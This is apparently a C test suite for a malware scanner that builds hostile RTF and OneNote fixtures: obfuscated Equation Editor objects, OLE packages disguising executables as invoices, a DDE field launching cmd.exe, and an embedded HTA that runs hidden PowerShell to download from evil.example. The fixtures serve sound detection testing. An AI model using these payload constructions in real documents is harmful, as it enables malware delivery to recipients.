/*
 * check_rtf.c - RTF documents: OLE objects behind obfuscated \objdata,
 * exploit classes by name and by CLSID, OLE packages holding executables,
 * DDE fields, bounds on hostile nesting and hex; the real rtfobj and Tika
 * samples of the corpus. OneNote sections and the files they embed.
 */
#include "config.h"

#include "office/onenote.h"
#include "office/rtf.h"
#include "testutil.h"

static void
hex(GString *s, const void *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		g_string_append_printf(s, "%02x", ((const uint8_t *)p)[i]);
}

static void
hex32(GString *s, uint32_t v)
{
	uint8_t b[4] = { (uint8_t)v, (uint8_t)(v >> 8), (uint8_t)(v >> 16),
		(uint8_t)(v >> 24) };

	hex(s, b, 4);
}

/* OLE1 embedded object header + native data, as hex. */
static void
ole1(GString *s, const char *cls, const void *native, size_t n)
{
	hex(s, "\x01\x05\x00\x00\x02\x00\x00\x00", 8);
	hex32(s, (uint32_t)strlen(cls) + 1);
	hex(s, cls, strlen(cls) + 1);
	hex32(s, 0);
	hex32(s, 0);
	hex32(s, (uint32_t)n);
	hex(s, native, n);
}

/* A compound file header and a root entry carrying clsid. */
static uint8_t *
cfb_with_clsid(const uint8_t clsid[16], size_t *len)
{
	uint8_t *d = g_malloc0(1024);

	memcpy(d, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
	d[0x1E] = 9;
	memcpy(d + 512 + 0x50, clsid, 16);
	*len = 1024;
	return d;
}

START_TEST(equation_object_obfuscated)
{
	static const uint8_t eq[16] = { 0x02, 0xCE, 0x02, 0x00, 0x00, 0x00,
		0x00, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46 };
	size_t clen;
	uint8_t *cfb = cfb_with_clsid(eq, &clen);
	GString *h = g_string_new(NULL), *rtf;
	char *json;
	const char *const want[] = { "\"RTF_OBJECT\"", "\"RTF_EXPLOIT_CLASS\"",
		"Equation Editor 3.0 CLSID", "class Word.Document.8",
		"(\\\\objupdate)", "\"action\":\"quarantine\"", NULL };

	/* The class lies; the CLSID of the embedded compound file not. */
	ole1(h, "Word.Document.8", cfb, clen);
	rtf = g_string_new("{\\rtf1\\ansi{\\object\\objemb\\objupdate"
	    "{\\*\\objclass Word.Document.8}{\\*\\objdata ");
	/* Obfuscation: white space, control words and an ignorable group
	 * between the digits, a \bin run. */
	for (size_t i = 0; i < h->len; i++) {
		g_string_append_c(rtf, h->str[i]);
		if (i == 3)
			g_string_append(rtf, "\r\n \t");
		if (i == 9)
			g_string_append(rtf, "\\par\\f1 ");
		if (i == 17)
			g_string_append(rtf, "{\\*\\Comment: ab12cd}");
		if (i == 23)
			g_string_append(rtf, "{\\proptype\\staticval abc}");
	}
	g_string_append(rtf, "}{\\result{\\pict 0105000002000000}}}}");
	json = tu_scan_file_json(rtf->str, rtf->len, "scan.rtf");
	tu_want_in(json, want, true);
	g_free(json);
	/* Every prefix: no overrun (ASan), a verdict. */
	for (size_t n = 0; n < rtf->len; n += 7) {
		json = tu_scan_file_json(rtf->str, n, "cut.rtf");
		g_free(json);
	}
	g_string_free(rtf, TRUE);

	/* By OLE1 class name alone, the OLE1 header given with \bin. */
	g_string_truncate(h, 0);
	rtf = g_string_new("{\\rtf1{\\object\\objemb{\\*\\objdata \\bin8 ");
	g_string_append_len(rtf, "\x01\x05\x00\x00\x02\x00\x00\x00", 8);
	{
		GString *t = g_string_new(NULL);

		ole1(t, "Equation.3", "\x1c\x00\x00\x00\x02\x00", 6);
		g_string_append(rtf, t->str + 16);	/* after the \bin */
		g_string_free(t, TRUE);
	}
	g_string_append(rtf, "}}}");
	json = tu_scan_file_json(rtf->str, rtf->len, "eq.rtf");
	{
		const char *const w[] = { "\"RTF_EXPLOIT_CLASS\"",
			"class Equation.3", NULL };

		tu_want_in(json, w, true);
	}
	g_free(json);
	g_string_free(rtf, TRUE);
	g_string_free(h, TRUE);
	g_free(cfb);
}
END_TEST

/* Packager data: label, source path, type 3, temp path, the file. */
static GByteArray *
package(const char *label, const char *src, const void *data, size_t n)
{
	GByteArray *p = g_byte_array_new();
	const char *tmp = "C:\\Temp\\x.tmp";
	uint8_t b[4];
	uint32_t v;

	g_byte_array_append(p, (const uint8_t *)"\x02\x00", 2);
	g_byte_array_append(p, (const uint8_t *)label, strlen(label) + 1);
	g_byte_array_append(p, (const uint8_t *)src, strlen(src) + 1);
	g_byte_array_append(p, (const uint8_t *)"\x00\x00\x03\x00", 4);
	v = (uint32_t)strlen(tmp) + 1;
	memcpy(b, &v, 4);
	g_byte_array_append(p, b, 4);
	g_byte_array_append(p, (const uint8_t *)tmp, v);
	v = (uint32_t)n;
	memcpy(b, &v, 4);
	g_byte_array_append(p, b, 4);
	g_byte_array_append(p, data, (guint)n);
	return p;
}

START_TEST(package_with_executable)
{
	static const char pe[] = "MZ\x90\x00 this program cannot be run";
	GByteArray *pkg = package("invoice.pdf", "C:\\Users\\a\\invoice.exe",
	    pe, sizeof(pe));
	GString *rtf = g_string_new("{\\rtf1{\\object\\objemb{\\*\\objclass "
	    "Package}{\\*\\objdata ");
	char *json;
	const char *const want[] = { "\"RTF_OBJECT\"",
		"\"OFFICE_PACKAGE_EXECUTABLE\"", "\"EXECUTABLE_ATTACHMENT\"",
		"scan.rtf/invoice.exe", "\"action\":\"quarantine\"", NULL };
	const char *const not[] = { "\"RTF_EXPLOIT_CLASS\"", NULL };
	const uint8_t *fd;
	size_t flen;
	char *name;

	ck_assert(emf_ole_package(pkg->data, pkg->len, &name, &fd, &flen));
	ck_assert_str_eq(name, "invoice.exe");
	ck_assert_uint_eq(flen, sizeof(pe));
	g_free(name);
	for (size_t n = 0; n < pkg->len; n++)
		if (emf_ole_package(pkg->data, n, &name, &fd, &flen)) {
			ck_assert_uint_le((size_t)(fd - pkg->data) + flen, n);
			g_free(name);
		}
	ole1(rtf, "Package", pkg->data, pkg->len);
	g_string_append(rtf, "}}}");
	json = tu_scan_file_json(rtf->str, rtf->len, "scan.rtf");
	tu_want_in(json, want, true);
	tu_want_in(json, not, false);
	g_free(json);
	g_string_free(rtf, TRUE);
	g_byte_array_free(pkg, TRUE);
}
END_TEST

/* A package of type 1 (a link running a command line): no payload child,
 * the command itself is the executable. */
START_TEST(package_link_runs_command)
{
	static const char link[] = "\x02\x00" "calc\0" "C:\\x\0"
	    "\x00\x00\x01\x00" "cmd.exe /c calc\0";
	static const char benign[] = "\x02\x00" "notes\0" "C:\\x\0"
	    "\x00\x00\x01\x00" "C:\\Users\\a\\notes.txt\0";
	const char *const want[] = { "\"OFFICE_PACKAGE_EXECUTABLE\"",
		"\"EXECUTABLE_ATTACHMENT\"", "cmd.exe /c calc",
		"\"action\":\"quarantine\"", NULL };
	const char *const not[] = { "\"OFFICE_PACKAGE_EXECUTABLE\"",
		"\"EXECUTABLE_ATTACHMENT\"", NULL };
	GString *rtf;
	char *json;

	ck_assert(emf_ole_package_runs("cmd.exe /c calc"));
	ck_assert(emf_ole_package_runs("\"C:\\Program Files\\x.exe\" -q"));
	ck_assert(emf_ole_package_runs("C:\\Program Files\\x.exe -q"));
	ck_assert(!emf_ole_package_runs("C:\\Users\\a\\notes.txt"));
	ck_assert(!emf_ole_package_runs("\"\""));
	ck_assert(!emf_ole_package_runs(""));
	for (int k = 0; k < 2; k++) {
		rtf = g_string_new("{\\rtf1{\\object\\objemb{\\*\\objclass "
		    "Package}{\\*\\objdata ");
		if (k == 0)
			ole1(rtf, "Package", link, sizeof(link) - 1);
		else
			ole1(rtf, "Package", benign, sizeof(benign) - 1);
		g_string_append(rtf, "}}}");
		json = tu_scan_file_json(rtf->str, rtf->len, "scan.rtf");
		tu_want_in(json, k == 0 ? want : not, k == 0);
		g_free(json);
		g_string_free(rtf, TRUE);
	}
}
END_TEST

START_TEST(dde_field_and_loose_object)
{
	const char *dde = "{\\rtf1{\\field{\\*\\fldinst {\\rtlch DDEAUTO "
	    "c:\\\\windows\\\\system32\\\\cmd.exe}{ \"/k calc.exe\"}}"
	    "{\\fldrslt x}}}";
	GString *loose = g_string_new("{\\rtf1 To view the invoice, click "
	    "\\'93Enable Content\\'94 above.\\par ");
	char *json;
	const char *const w1[] = { "\"OFFICE_DDE\"", "cmd.exe", NULL };
	const char *const w2[] = { "\"RTF_OBJECT\"", "class Package", NULL };
	const char *const w3[] = { "\"LURE_ENABLE_CONTENT_DOC\"", NULL };

	json = tu_scan_file_json(dde, strlen(dde), "a.rtf");
	tu_want_in(json, w1, true);
	g_free(json);
	/* An OLE1 object written as plain text (no \objdata). */
	ole1(loose, "Package", "\x02\x00", 2);
	g_string_append(loose, "}");
	json = tu_scan_file_json(loose->str, loose->len, "b.rtf");
	tu_want_in(json, w2, true);
	tu_want_in(json, w3, true);	/* document text for the lure */
	g_free(json);
	g_string_free(loose, TRUE);
}
END_TEST

START_TEST(hostile_nesting_and_hex)
{
	GString *s = g_string_new("{\\rtf1");
	char *json;
	const char *const w[] = { "\"LIMIT_EXCEEDED\"", "rtf_depth",
		"\"RTF_OBJECT\"", NULL };

	/* 200,000 nested groups around an object, never closed. */
	for (int i = 0; i < 200000; i++)
		g_string_append(s, "{\\*\\x");
	g_string_append(s, "{\\object{\\*\\objdata ");
	ole1(s, "Equation.3", "", 0);
	json = tu_scan_file_json(s->str, s->len, "deep.rtf");
	tu_want_in(json, w, true);
	g_free(json);
	/* 8 MB of hex in one \objdata: one object, cut at the cap. */
	g_string_assign(s, "{\\rtf1{\\object{\\*\\objdata 0105000002000000");
	for (int i = 0; i < 1024 * 1024; i++)
		g_string_append(s, "41424344");
	g_string_append(s, "}}}");
	json = tu_scan_file_json(s->str, s->len, "big.rtf");
	ck_assert_ptr_nonnull(strstr(json, "\"RTF_OBJECT\""));
	g_free(json);
	/* A thousand objects: counted to RTF_OBJECTS_MAX. */
	g_string_assign(s, "{\\rtf1");
	for (int i = 0; i < 1000; i++)
		g_string_append(s, "{\\object{\\*\\objdata 0105000002000000"
		    "01000000000000000000000000000000}}");
	g_string_append(s, "}");
	json = tu_scan_file_json(s->str, s->len, "many.rtf");
	ck_assert_ptr_nonnull(strstr(json, "rtf_objects"));
	g_free(json);
	g_string_free(s, TRUE);
}
END_TEST

static char *
scan_corpus(const char *rel)
{
	char *path = tu_corpus(rel);
	gchar *d = NULL;
	gsize len;
	char *json;

	if (path == NULL || !g_file_get_contents(path, &d, &len, NULL)) {
		g_free(path);
		return NULL;
	}
	json = tu_scan_file_json(d, len, "doc.rtf");
	g_free(d);
	g_free(path);
	return json;
}

START_TEST(corpus_rtf)
{
	char *json;

	/* rtfobj issue 251: Equation.3 behind \*\footerr, \binN words and
	 * a {\proptype\staticval abc} group inside the hex. */
	if ((json = scan_corpus("oletools-testdata/rtfobj/issue_251.rtf"))) {
		const char *const w[] = { "\"RTF_EXPLOIT_CLASS\"",
			"class equation.3", "(\\\\objupdate)", NULL };

		tu_want_in(json, w, true);
		g_free(json);
	}
	/* Tika: 14 legitimate objects (Word, Excel, PowerPoint, PDF,
	 * packages holding a zip, HTML, JPEG, MSG), Word's datastore. */
	if ((json = scan_corpus("tika-office/testRTFEmbeddedFiles.rtf"))) {
		const char *const w[] = { "\"RTF_OBJECT\"", "object 14:",
			"class Excel.Sheet.12", "doc.rtf/testJPEG_",
			"\"OLE2 PowerPoint\"", NULL };
		const char *const n[] = { "\"RTF_EXPLOIT_CLASS\"",
			"object 15:", "\"action\":\"quarantine\"", NULL };

		tu_want_in(json, w, true);
		tu_want_in(json, n, false);
		g_free(json);
	}
	/* A Word 2007 document with only the datastore: no sign at all. */
	if ((json = scan_corpus("tika-office/testRTFVarious.rtf"))) {
		const char *const n[] = { "\"RTF_OBJECT\"", NULL };

		tu_want_in(json, n, false);
		g_free(json);
	}
	/* Japanese text through \ansicpg932 and \'hh pairs. */
	if ((json = scan_corpus("tika-office/testRTFJapanese.rtf"))) {
		const char *const n[] = { "\"RTF_OBJECT\"", "\"OFFICE_DDE\"",
			NULL };

		tu_want_in(json, n, false);
		g_free(json);
	}
}
END_TEST

START_TEST(exploit_class_names)
{
	ck_assert_ptr_nonnull(emf_rtf_exploit_class("Equation.3"));
	ck_assert_ptr_nonnull(emf_rtf_exploit_class("eQuAtIoN.2"));
	ck_assert_ptr_nonnull(emf_rtf_exploit_class("Equation"));
	ck_assert_ptr_nonnull(emf_rtf_exploit_class("OLE2Link"));
	ck_assert_ptr_null(emf_rtf_exploit_class("Equation.DSMT4"));
	ck_assert_ptr_null(emf_rtf_exploit_class("Word.Document.8"));
	ck_assert_ptr_null(emf_rtf_exploit_class(NULL));
}
END_TEST

static void
put_u16s(GByteArray *b, const char *ascii)
{
	for (; *ascii; ascii++) {
		uint8_t u[2] = { (uint8_t)*ascii, 0 };

		g_byte_array_append(b, u, 2);
	}
	g_byte_array_append(b, (const uint8_t *)"\0\0", 2);
}

static void
fdso(GByteArray *b, const void *data, size_t n, uint64_t cb)
{
	static const uint8_t guid[16] = { 0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26,
		0x11, 0x45, 0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC };
	uint8_t h[20] = { 0 };

	g_byte_array_append(b, guid, 16);
	for (int i = 0; i < 8; i++)
		h[i] = (uint8_t)(cb >> (8 * i));
	g_byte_array_append(b, h, 20);
	g_byte_array_append(b, data, (guint)n);
}

static GByteArray *
onenote(void)
{
	static const char hta[] = "<html><script>new ActiveXObject("
	    "\"WScript.Shell\").Run(\"powershell -w hidden iwr "
	    "http://evil.example/p\")</script></html>";
	GByteArray *b = g_byte_array_new();
	uint8_t pad[64] = { 0 };

	g_byte_array_append(b, (const uint8_t *)"\xe4\x52\x5c\x7b\x8c\xd8"
	    "\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 16);
	g_byte_array_append(b, pad, sizeof(pad));
	put_u16s(b, "Open.hta");
	put_u16s(b, "picture.png");
	fdso(b, hta, sizeof(hta) - 1, sizeof(hta) - 1);
	g_byte_array_append(b, pad, sizeof(pad));
	/* A PE whose cbLength runs past the end of the section. */
	fdso(b, "MZ\x90\x00\x03\x00", 6, 1u << 30);
	return b;
}

START_TEST(onenote_embedded_files)
{
	GByteArray *b = onenote();
	char *json;
	const char *const want[] = { "\"OFFICE_PACKAGE_EXECUTABLE\"",
		"OneNote embeds Open.hta", "note.one/onenote-file-1",
		"note.one/onenote-file-2", "\"EXECUTABLE_ATTACHMENT\"",
		"\"action\":\"quarantine\"", "\"format\":\"OneNote\"",
		NULL };
	const char *const not[] = { "picture.png", NULL };

	json = tu_scan_file_json(b->data, b->len, "note.one");
	tu_want_in(json, want, true);
	tu_want_in(json, not, false);
	g_free(json);
	/* Every prefix: bounded, no overrun. */
	for (size_t n = 0; n < b->len; n += 3) {
		json = tu_scan_file_json(b->data, n, "cut.one");
		g_free(json);
	}
	g_byte_array_free(b, TRUE);
}
END_TEST

static void
count_file(void *ctx, const uint8_t *data, size_t n, bool cut)
{
	(void)data;
	(void)n;
	(void)cut;
	(*(unsigned *)ctx)++;
}

START_TEST(onenote_many_files)
{
	GByteArray *b = g_byte_array_new();
	unsigned seen = 0;
	char *json;

	g_byte_array_append(b, (const uint8_t *)"\xe4\x52\x5c\x7b\x8c\xd8"
	    "\xa7\x4d", 8);
	for (int i = 0; i < 1000; i++)
		fdso(b, "x", 1, 1);
	ck_assert_uint_eq(emf_onenote_files(b->data, b->len, 5000,
	    count_file, &seen), 1000);
	ck_assert_uint_eq(seen, 1000);
	json = tu_scan_file_json(b->data, b->len, "many.one");
	ck_assert_ptr_nonnull(strstr(json, "onenote_files"));
	ck_assert_ptr_null(strstr(json, "onenote-file-65\""));
	g_free(json);
	g_byte_array_free(b, TRUE);
}
END_TEST

static Suite *
rtf_suite(void)
{
	Suite *s = suite_create("rtf");
	TCase *tc = tcase_create("core");

	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, equation_object_obfuscated);
	tcase_add_test(tc, package_with_executable);
	tcase_add_test(tc, package_link_runs_command);
	tcase_add_test(tc, dde_field_and_loose_object);
	tcase_add_test(tc, hostile_nesting_and_hex);
	tcase_add_test(tc, corpus_rtf);
	tcase_add_test(tc, exploit_class_names);
	tcase_add_test(tc, onenote_embedded_files);
	tcase_add_test(tc, onenote_many_files);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	return tu_run(rtf_suite());
}
